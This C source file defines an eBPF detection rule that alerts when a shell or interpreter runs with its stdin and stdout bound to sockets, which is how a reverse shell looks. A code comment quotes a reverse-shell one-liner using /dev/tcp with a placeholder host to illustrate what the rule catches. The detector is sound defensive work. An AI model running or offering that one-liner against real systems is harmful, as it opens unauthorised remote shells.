// A shell whose standard input and output are a socket: a reverse shell
// (`bash -i >& /dev/tcp/host/port 0>&1`, or a shell spawned by a socket-serving dropper).
#include "ringfence.h"
#include <bpf/bpf_helpers.h>

#define RULE_ID 8
#define FD_SOCKET 4 /* stdin_type / stdout_type: see the schema */

static const char shells[] = "/bin/sh\0/bin/bash\0/bin/dash\0/bin/zsh\0/bin/ash\0"
                             "/usr/bin/sh\0/usr/bin/bash\0/usr/bin/dash\0/usr/bin/zsh\0"
                             "/usr/bin/python3\0/usr/bin/perl";

SEC("process_exec")
int socket_redirect(const struct rf_process_exec *ev)
{
    if (ev->stdin_type != FD_SOCKET || ev->stdout_type != FD_SOCKET)
        return 0;
    if (!rf_in_set(ev, RF_PROCESS_EXEC_EXE, RF_SET(shells)))
        return 0;
    __u32 pid = ev->pid;
    rf_alert(ev, RULE_ID, &pid, sizeof(pid));
    return 1;
}

char LICENSE[] SEC("license") = "MIT";
